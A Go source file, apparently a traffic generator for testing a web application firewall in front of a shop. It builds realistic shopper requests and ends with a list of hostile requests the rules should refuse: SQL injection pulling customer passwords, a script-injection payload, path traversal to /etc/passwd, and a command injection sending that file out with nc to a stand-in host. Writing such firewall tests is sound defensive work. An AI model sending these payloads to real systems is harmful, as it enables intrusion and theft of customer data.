//go:build linux

package main

import (
	"fmt"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync/atomic"
)

// kind is a kind of request.
type kind uint8

// The kinds of the mix, then those of other measures.
const (
	static kind = iota
	page
	search
	order
	cart
	checkout
	kinds
)

var kindNames = [kinds]string{"static", "product page", "search", "own order", "cart", "checkout"}

func (k kind) String() string { return kindNames[k] }

// journey is one visit: what is asked for, in order. The order is read after the
// checkout, which makes it the visitor's own.
var journey = [...]kind{
	page, static, search, page, static, page, search, cart, static, page,
	cart, search, checkout, order, static, page, order, static, page, order,
}

// shot is one request and what its answer must be.
type shot struct {
	raw    []byte // as it goes over the wire
	status int
	length int // of the answer's body
}

// visitors numbers visits, so that no two share a session, an address or an
// order.
type visitors struct{ last atomic.Int64 }

// visitor is one person with a browser. Not safe for concurrent use.
type visitor struct {
	n       int64
	asked   int64 // requests so far: articles and orders get numbers from it
	session string
	steps   int
}

func (v *visitors) next() *visitor { return &visitor{n: v.last.Add(1)} }

// mix returns the visitor's next request, and whether the visit then is over.
func (v *visitor) mix() (shot, bool) {
	k := journey[v.steps%len(journey)]
	v.steps++
	return v.ask(k), v.steps == len(journey)
}

// visits is how many requests of one visitor have numbers of their own.
const visits = 1 << 16

// number is of an article or an order: unlike every other visitor's, and in no
// order, since whoever asks for numbers in a row is taken for a thief (40503 is
// odd, so that no number comes twice).
func (v *visitor) number() int64 { return v.n*visits + v.asked*40503%visits }

// ask makes the visitor's next request of a kind.
func (v *visitor) ask(k kind) shot {
	v.asked++
	n := strconv.FormatInt(v.number(), 10)
	switch k {
	case static:
		return v.get("/assets/shop-"+n+".css", "text/css,*/*;q=0.1", len(styleSheet))
	case page:
		return v.get("/products/red-dress-"+n+"?colour=red&size=M&utm_source=newsletter&page="+strconv.FormatInt(v.n%40, 10),
			"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", len(productPage))
	case search:
		return v.get("/api/search?q=blue+teapot+"+n+"&sort=price&page=2", "application/json", len(searchAnswer))
	case order:
		return v.get("/api/orders/"+n, "application/json", len(orderOf(v.number())))
	case cart:
		return v.post("/api/cart/items", "application/json", `{"cart":"`+token(v.n)+`","items":[{"sku":"TP-`+n+`","name":"Teapot, blue","quantity":2,"price":{"amount":2495,"currency":"EUR"}},`+
			`{"sku":"CP-77","name":"Cup and saucer","quantity":6,"price":{"amount":795,"currency":"EUR"}}],"coupon":null,"gift":false,"note":"Please leave it with the neighbours, thank you!"}`, len(accepted))
	case checkout:
		p := personOf(v.n)
		return v.post("/checkout", "application/x-www-form-urlencoded", url.Values{
			"first_name": {p.first}, "last_name": {p.last}, "email": {p.email}, "street": {p.street}, "postcode": {p.postcode}, "city": {p.city},
			"country": {"DE"}, "phone": {p.phone}, "newsletter": {"on"}, "csrf": {token(v.asked)}, "order": {n},
		}.Encode(), len(orderOf(v.number())))
	default:
		panic("BUG: a request of no kind")
	}
}

func (v *visitor) get(uri, accept string, length int) shot {
	return shot{v.raw(http.MethodGet, uri, accept, "", ""), http.StatusOK, length}
}

// post expects an answer of so many bytes.
func (v *visitor) post(uri, contentType, body string, length int) shot {
	return shot{v.raw(http.MethodPost, uri, "application/json, text/plain, */*", contentType, body), http.StatusCreated, length}
}

// raw writes a request as a browser behind a load balancer sends it. Visitors share
// no /24: customers who order from one are counted together.
func (v *visitor) raw(method, uri, accept, contentType, body string) []byte {
	var b strings.Builder
	b.Grow(1024 + len(body))
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\nHost: shop.example\r\nX-Forwarded-For: %d.%d.%d.%d\r\n"+
		"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36\r\nAccept: %s\r\n"+
		"Accept-Language: de-DE,de;q=0.9,en;q=0.8\r\nReferer: https://shop.example/category/dresses?page=%d\r\n"+
		"Sec-Fetch-Site: same-origin\r\nSec-Fetch-Mode: navigate\r\nSec-Fetch-Dest: document\r\n",
		method, uri, 11+v.n>>16&63, v.n>>8&255, v.n&255, 10+v.n&127, accept, v.n%40)
	if v.session != "" {
		fmt.Fprintf(&b, "Cookie: session=%s; consent=all; cart=%s\r\n", v.session, token(v.n)[:16])
	}
	if body != "" {
		fmt.Fprintf(&b, "Content-Type: %s\r\nContent-Length: %d\r\n", contentType, len(body))
	}
	b.WriteString("\r\n")
	b.WriteString(body)
	return []byte(b.String())
}

// token makes 32 hexadecimal digits of a number.
func token(n int64) string {
	const digits = "0123456789abcdef"
	out := make([]byte, 32)
	x := uint64(n)*0x9e3779b97f4a7c15 + 0x1234567
	for i := range out {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		out[i] = digits[x%16]
	}
	return string(out)
}

// attack is a request that the rules refuse.
type attack struct {
	name string
	ask  func(v *visitor) []byte
}

// attacks, each against another part of a request. They have the visitor's
// numbers in them: no two are the same.
var attacks = []attack{
	{"SQL injection, query", func(v *visitor) []byte {
		return v.hostile(http.MethodGet, "/api/search?n="+v.id()+"&q="+url.QueryEscape("1' UNION SELECT email,password FROM customers--"), "", "")
	}},
	{"script, form", func(v *visitor) []byte {
		return v.hostile(http.MethodPost, "/checkout", "application/x-www-form-urlencoded", "n="+v.id()+"&last_name="+url.QueryEscape("<script>alert(document.cookie)</script>"))
	}},
	{"SQL injection, JSON", func(v *visitor) []byte {
		return v.hostile(http.MethodPost, "/api/cart/items", "application/json", `{"n":`+v.id()+`,"items":[{"sku":"x' OR 1=1 --"}]}`)
	}},
	{"path, query", func(v *visitor) []byte {
		return v.hostile(http.MethodGet, "/assets/get?n="+v.id()+"&file="+url.QueryEscape("../../../../etc/passwd"), "", "")
	}},
	{"command, query", func(v *visitor) []byte {
		return v.hostile(http.MethodGet, "/api/search?n="+v.id()+"&q="+url.QueryEscape("; cat /etc/passwd | nc 198.51.100.7 4444"), "", "")
	}},
}

func (v *visitor) id() string { return strconv.FormatInt(v.number(), 10) }

func (v *visitor) hostile(method, uri, contentType, body string) []byte {
	v.asked++
	return v.raw(method, uri, "*/*", contentType, body)
}
